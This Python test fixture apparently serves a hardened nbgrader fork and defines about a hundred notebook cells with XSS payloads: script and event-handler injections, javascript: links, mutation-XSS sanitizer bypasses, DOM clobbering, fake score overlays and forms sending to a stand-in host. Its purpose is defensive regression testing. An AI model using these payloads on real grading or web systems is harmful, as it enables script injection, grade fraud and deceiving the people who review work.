"""Cells with which a learner attacks whoever looks at the work, and cells that must still show.

Each attack calls `ran(name)`, asks https://evil.example for something, or changes what the page is: `harm` is
JavaScript that is true where it has succeeded. What succeeds in stock nbgrader's pages is proven in a browser, one by
one, in `tests/browser/test_safe_feedback.py`; that nothing of it does in ours, there for all of them in one page, and
here by what the page contains.
"""

import base64
from dataclasses import dataclass
from typing import Any, Literal

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

EVIL = "https://evil.example"
RAN = "ran.includes('{name}')"
LOADED = "false"
"""For attacks that ask for something from outside: it is the requests that tell."""

Page = Literal["feedback", "formgrade"]


@dataclass(frozen=True)
class Attack:
    name: str
    cell: NotebookNode
    harm: str
    widgets: Any = None
    pages: tuple[Page, ...] = ("feedback", "formgrade")
    """Where stock's page is harmed by it; ours must not be anywhere."""

    def __str__(self) -> str:
        return self.name

    @property
    def html(self) -> str:
        """Return the HTML that its output offers; empty if it offers none."""
        outputs = self.cell.get("outputs") or [{}]
        return str(outputs[0].get("data", {}).get("text/html", ""))


def _key(name: str) -> str:
    return name.replace(" ", "-")


def _filled(name: str, template: str) -> str:
    return template.replace("JS", f"ran(`{_key(name)}`)").replace("EVIL", f"{EVIL}/{_key(name)}")


def shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> NotebookNode:
    """Return a code cell with one output."""
    return new_code_cell("show()", outputs=[new_output("display_data", data=data, metadata=metadata or {})])


def _html(name: str, template: str, harm: str = RAN, **rest: Any) -> Attack:
    cell = shown({"text/html": _filled(name, template), "text/plain": "plain"})
    return Attack(name, cell, harm.format(name=_key(name)), **rest)


def _markdown(name: str, template: str, harm: str = RAN, **rest: Any) -> Attack:
    return Attack(name, new_markdown_cell(_filled(name, template)), harm.format(name=_key(name)), **rest)


def _other(name: str, cell: NotebookNode, harm: str = RAN, **rest: Any) -> Attack:
    return Attack(name, cell, harm.format(name=_key(name)), **rest)


def _data(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


def _attached(name: str, source: str, kind: str, content: str) -> NotebookNode:
    data = base64.b64encode(content.encode()).decode()
    return new_markdown_cell(source, attachments={name: {kind: data}})


def _widget(name: str, model: str, state: dict[str, Any], view: Any = "w") -> Attack:
    saved = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"w": {"model_name": model, "model_module": "@jupyter-widgets/controls", "state": state}},
    }}  # fmt: skip
    cell = shown({"application/vnd.jupyter.widget-view+json": {"model_id": view}, "text/plain": "plain"})
    return Attack(name, cell, RAN.format(name=_key(name)), widgets=saved, pages=())


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"{}>{}</svg>'
)
_COVERED = "document.elementFromPoint(innerWidth / 2, 60)?.closest('.output_subarea, .text_cell_render') !== null"
_LINKED = "[...document.querySelectorAll('.cell a, .cell area')].some(a => a.protocol === 'javascript:')"

ATTACKS: tuple[Attack, ...] = (
    # Scripts and event handlers
    _html("script", "<script>JS</script>"),
    _html("script in capitals", "<SCRIPT>JS</SCRIPT >"),
    _html("script from elsewhere", "<script src=EVIL.js></script>", LOADED),
    _html("module", "<script type=module>JS</script>"),
    _html("script by halves", "<scr<style></style>ipt>JS</scr<style></style>ipt><script>JS</script>"),
    _html("onerror", "<img src=x onerror=JS>"),
    _html("onerror with slashes", '<img/src="x"/onerror="JS">'),
    _html("onerror without spaces", '<img src="x"onerror="JS">'),
    _html("onerror of a sound", "<audio src=x onerror=JS></audio>"),
    _html("onerror of a source", "<video><source onerror=JS></video>"),
    _html("onload of a style", "<style onload=JS></style>"),
    _html("onfocus", '<input autofocus onfocus="JS">'),
    _html("ontoggle", '<details open ontoggle="JS">x</details>'),
    _html("onanimationstart", '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="JS">x</b>'),
    _html("onbegin", '<svg><animate onbegin="JS" attributeName=x dur=1s></svg>'),
    _html("body with onload", "<body onload=JS>"),
    _html("hidden by a null", "<img src=x one\x00rror=JS onerror=JS>"),
    # Addresses
    _html("javascript link", '<a href="javascript:JS">click</a>', _LINKED),
    _html("javascript link with a tab", '<a href="java\tscript:JS">click</a>', _LINKED),
    _html("javascript link in entities", '<a href="&#106;avascript&colon;JS">click</a>', _LINKED),
    _html("javascript link after a blank", '<a href=" \x01javascript:JS">click</a>', _LINKED),
    _html("javascript in a picture map", '<map name=m><area href="javascript:JS"></map>', _LINKED),
    _html("javascript in a frame", '<iframe src="javascript:parent.JS"></iframe>'),
    _html("page in a frame", "<iframe srcdoc='<script>parent.JS</script>'></iframe>"),
    _html("page in a data address",
          f"<iframe src='{_data('text/html', f'<img src={EVIL}/page-in-data>')}'></iframe>", LOADED),
    _html("object", f"<object data='{_data('text/html', f'<img src={EVIL}/object>')}'></object>", LOADED),
    _html("embed", f"<embed src='{_data('text/html', f'<img src={EVIL}/embed>')}'>", LOADED),
    _html("picture from elsewhere", "<img src=EVIL.png>", LOADED),
    _html("picture set from elsewhere", "<img srcset='EVIL.png 1x'>", LOADED),
    _html("poster from elsewhere", "<video poster=EVIL.png></video>", LOADED),
    _html("background from elsewhere", "<table background=EVIL.png><tr><td>x</table>", LOADED),
    # What changes the page
    _html("refresh", '<meta http-equiv=refresh content="0;url=EVIL">', LOADED),
    _html("base", "<base href='EVIL/'>", "document.baseURI.includes('evil')"),
    _html("style sheet from elsewhere", "<link rel=stylesheet href=EVIL.css>", LOADED),
    _html("import", "<style>@import 'EVIL.css';</style>", LOADED),
    _html("picture in a style", '<div style="background:url(EVIL.png)">x</div>', LOADED),
    _html("style for the page", "<style>body{background:rgb(1,2,3)}</style>",
          "getComputedStyle(document.body).backgroundColor === 'rgb(1, 2, 3)'"),
    _html("style for a table and more", "<style>#T_a, body{background:rgb(1,2,4)}</style><table id=T_a></table>",
          "getComputedStyle(document.body).backgroundColor === 'rgb(1, 2, 4)'"),
    _html("style that ends early", "<style>#T_a{color:red}</style/></style><img src=x onerror=JS>"),
    _html("overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:300px;background:#fff;z-index:9999">'
          "Score: 10 / 10</div>", _COVERED),
    _html("overlay by margin", '<div style="margin-top:-3000px;height:6000px;background:#fff;position:relative">'
          "Score: 10 / 10</div>", _COVERED),
    _html("overlay by a class",
          '<div class="navbar-fixed-top modal-backdrop" style="height:300px">Score: 10 / 10</div>',
          "document.querySelector('.output_subarea .navbar-fixed-top') !== null"),
    _html("form", "<form action=EVIL id=evil_form><input name=x><button>Go</button></form>",
          "document.getElementById('evil_form')?.tagName === 'FORM'"),
    _html("form that sends itself", "<form action=EVIL id=f></form><img src=x onerror='f.submit()'>", LOADED),
    _html("clobbered formgrader", "<a id=formgrader></a><a id=formgrader name=init></a>",
          "document.getElementById('formgrader')?.closest('.cell') != null"),
    _html("clobbered document", "<img name=getElementById>", "typeof document.getElementById !== 'function'"),
    _html("clobbered MathJax", "<a id=MathJax></a><a id=MathJax name=Hub></a>",
          "document.getElementById('MathJax')?.closest('.cell') != null"),
    _html("graded cell's name", "<input id=double_test class='score tabbable' value=10>",
          "document.getElementById('double_test')?.closest('.output_subarea') != null"),
    _html("button that grades", "<a class='full-credit btn'>Show the plot</a>",
          "document.querySelector('.output_subarea .full-credit') !== null"),
    _html("tooltip of the page", "<a data-toggle=tooltip data-html=true title='<img src=x>' data-link=evil>x</a>",
          "document.querySelector('.cell [data-toggle], .cell [data-link]') !== null"),
    _html("closes the page", "</div></div></div></body></html><script>JS</script>"),
    _html("cut off", "<!-- <img src=x onerror=JS>"
          " --><img src=x onerror=JS><textarea>"),
    _html("huge attribute", f"<img src=x title='{'A' * 300_000}' onerror=JS>"),
    _other("isolated", shown({"text/html": f"<img src={EVIL}/isolated>"}, {"text/html": {"isolated": True}}), LOADED),
    # HTML that browsers read differently the second time
    _html("mutation by math", "<math><mtext><table><mglyph><style><!--</style>"
          '<img title="--&gt;&lt;img src=1 onerror=JS&gt;">', pages=()),
    _html("mutation by svg", "<svg></p><style><a id='</style><img src=1 onerror=JS>'>", pages=()),
    _html("mutation by noscript", "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>", pages=()),
    _html("mutation by template", "<template><s></template><img src=x onerror=JS></s></template>"),
    _html("mutation by form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>", pages=()),
    _html("mutation by select", "<select><style></select><img src=x onerror=JS></style>", pages=()),
    _html("mutation by textarea",
          "<div><textarea><p title='</textarea><img src=x onerror=JS>'></textarea></div>", pages=()),
    _html("mutation by xmp", "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>", pages=()),
    _html("mutation by comment", "<!--><img src=x onerror=JS>-->"),
    _html("mutation by title", "<svg><title><style><img src=x onerror=JS></style></title></svg>", pages=()),
    # SVG
    _html("svg in a page with a script", _SVG.format("", "<script>JS</script>")),
    _html("svg in a page with onload", _SVG.format(' onload="JS"', "")),
    _html("svg with a link", _SVG.format("", '<a xlink:href="javascript:JS"><text y="9">x</text></a>'),
          "[...document.querySelectorAll('svg a')].some(a => a.href.baseVal.startsWith('java'))"),
    _html("svg with a page in it", _SVG.format("", "<foreignObject><iframe srcdoc='<script>parent.JS</script>'/>"
          "</foreignObject>")),
    _html("svg that uses another",
          _SVG.format("", f"<use xlink:href='{EVIL}/use.svg#x'/><image href='{EVIL}/use.png'/>"),
          LOADED),
    _other("svg as an output", shown({"image/svg+xml": _SVG.format(' onload="ran(`svg-as-an-output`)"',
           "<script>ran(`svg-as-an-output`)</script>")}), pages=()),
    # Markdown
    _markdown("markdown with a script", "text\n\n<script>JS</script>"),
    _markdown("markdown with a handler", "text <img src='x' onerror='JS'> text"),
    _markdown("markdown link", "[click](javascript:JS)", _LINKED),
    _markdown("markdown link by reference", "[click][1]\n\n[1]: javascript:JS", _LINKED),
    _markdown("markdown link in brackets", "<javascript:JS>", _LINKED),
    _markdown("markdown link through files", "[click](files/javascript:JS)", _LINKED),
    _markdown("markdown html through files", '<a href="/files/javascript:JS">click</a>', _LINKED),
    _markdown("markdown picture", "![x](EVIL.png)", LOADED),
    _markdown("markdown heading", "# <img src='x' onerror='JS'>"),
    _markdown("markdown code", "```<img/src=x/onerror=JS>\nx\n```\n<img src='x' onerror='JS'>", pages=()),
    _markdown("markdown mermaid", "```mermaid\n<img src=x onerror=JS>\n```"),
    _markdown("markdown title", '[x](y.csv "a&quot;onmouseover=JS")', pages=()),
    _other("attachment that is a page", _attached('a"onerror="ran(`attachment-that-is-a-page`)', "![x](attachment:a)",
           "text/html", "<script>ran(`attachment-that-is-a-page`)</script>"), pages=()),
    _other("attachment of an odd type", new_markdown_cell("![x](attachment:a)", attachments={
        "a": {'x"onerror="ran(`attachment-of-an-odd-type`)': "AA=="}}), pages=()),
    _other("output in markdown", shown({"text/markdown": "<img src='x' onerror='ran(`output-in-markdown`)'>"})),
    # TeX
    _markdown("tex link", r"$\href{javascript:JS}{click}$", "[...document.querySelectorAll('.cell a')]"
              ".some(a => a.href.startsWith('java'))", pages=()),
    _markdown("tex style", r"$\style{position:fixed;top:0;background:url(EVIL)}{x}$", LOADED, pages=()),
    _markdown("tex class", r"$\class{navbar-fixed-top}{x}$",
              "document.querySelector('.cell .navbar-fixed-top') !== null",
              pages=()),
    _markdown("tex id", r"$\cssId{statusmessage}{x}$",
              "document.getElementById('statusmessage')?.closest('.cell') != null", pages=()),
    _markdown("tex unicode", r"$\unicode[x;background:url(EVIL)]{65}$", LOADED, pages=()),
    _markdown("tex overlay", r"$\rlap{\raise 900px{\rule{4000px}{4000px}}}$", _COVERED, pages=()),
    _other("tex as an output", shown({"text/latex": r"$\href{javascript:1}{x}$<img src=x onerror=ran(`latex`)>"}),
           "ran.includes('latex') || [...document.querySelectorAll('.cell a')].some(a => a.href.startsWith('java'))",
           pages=()),
    _html("configuration of MathJax", '<script type="text/x-mathjax-config">JS</script>'),
    _html("script of MathJax", r'<script type="math/tex">\href{javascript:JS}{x}</script>',
          "[...document.querySelectorAll('.cell a')].some(a => a.href.startsWith('java'))", pages=()),
    # Other outputs
    _other("javascript as an output", shown({"application/javascript": "ran(`javascript-as-an-output`)"}),
           pages=("formgrade",)),
    _other("javascript that ends early", shown({"application/javascript":
           "</script><script>ran(`javascript-that-ends-early`)"})),
    _other("width of a picture", shown({"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=ran(`width`)"}}),
           "ran.includes('width')"),
    _other("height of a picture", shown({"image/jpeg": "AAAA"}, {"image/jpeg": {"height": "1 onerror=ran(`height`)"}}),
           "ran.includes('height')"),
    _other("data of a picture", shown({"image/png": '" onerror="ran(`data-of-a-picture`)'}), pages=()),
    _other("name of a picture", shown({"image/png": "AAAA"}, {"filenames": {"image/png": f"{EVIL}/name.png"}}), LOADED),
    _other("text", shown({"text/plain": "<img src=x onerror=ran(`text`)>"}), pages=()),
    _other("text in colours", new_code_cell("x", outputs=[new_output("stream", text=
           "\x1b[31m<img src=x onerror=ran(`text-in-colours`)>\x1b[0m\x1b[38;2;1;2;3\" onclick=x m")]), pages=()),
    _other("traceback", new_code_cell("x", outputs=[new_output("error", ename="<img src=x onerror=ran(`traceback`)>",
           evalue="<script>ran(`traceback`)</script>", traceback=["<script>ran(`traceback`)</script>\x1b[31m<b"])]),
           pages=()),
    _other("source", new_code_cell("'''</pre><script>ran(`source`)</script>'''"), pages=()),
    _other("raw cell", new_raw_cell("<script>ran(`raw-cell`)</script><img src=x onerror=ran(`raw-cell`)>"), pages=()),
    _other("tag of a cell", new_code_cell("x", metadata={"tags": ["x hidden"]}),
           "document.querySelector('.cell.hidden') !== null"),
    _other("hidden source", new_markdown_cell("what the grader should read", metadata={"transient":
           {"remove_source": True}}), "!document.body.innerText.includes('what the grader should read')"),
    # Widgets
    _widget("widget with html", "HTMLModel", {"value": "<img src=x onerror=ran(`widget-with-html`)>"}),
    _widget("widget with a label", "LabelModel", {"value": "<img src=x onerror=ran(`widget-with-a-label`)>"}),
    _widget("widget with a description", "IntSliderModel", {"description": "<script>ran(`widget-with-a-description`)"
            "</script>", "value": "<script>ran(`widget-with-a-description`)</script>"}),
    _widget("widget with code", "AnyModel", {"_esm": "ran(`widget-with-code`)", "_css": "body{display:none}"}),
    _widget("widget with outputs", "OutputModel", {"outputs": [{"output_type": "display_data", "metadata": {}, "data":
            {"text/html": "<script>ran(`widget-with-outputs`)</script>"}}]}),
    _widget("widget in itself", "VBoxModel", {"children": ["IPY_MODEL_w"] * 20}),
    _widget("widget that is something else", "VBoxModel", {"children": {"a": 1}}, view={"a": ["<script>"]}),
    _widget("widget that ends early", "HTMLModel",
            {"value": "</script><script>ran(`widget-that-ends-early`)</script>"}),
)  # fmt: skip


def notebook_with(*cells: NotebookNode, widgets: Any = None) -> NotebookNode:
    notebook = new_notebook(cells=list(cells))
    notebook.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
    if widgets is not None:
        notebook.metadata["widgets"] = widgets
    return notebook


def all_attacks() -> NotebookNode:
    """Return one notebook with all attacks, each under a heading; the widgets' models have names of their own."""
    cells: list[NotebookNode] = []
    models: dict[str, Any] = {}
    for number, attack in enumerate(ATTACKS):
        cell = NotebookNode(attack.cell)
        if attack.widgets:
            (saved,) = attack.widgets.values()
            models[f"w{number}"] = saved["state"]["w"]
            cell = shown(
                {"application/vnd.jupyter.widget-view+json": {"model_id": f"w{number}"}, "text/plain": "plain"}
            )
        cells += [new_markdown_cell(f"Attack {number}: {attack.name}"), cell]
    state = {"application/vnd.jupyter.widget-state+json": {"state": models, "version_major": 2, "version_minor": 0}}
    return notebook_with(*cells, widgets=state)
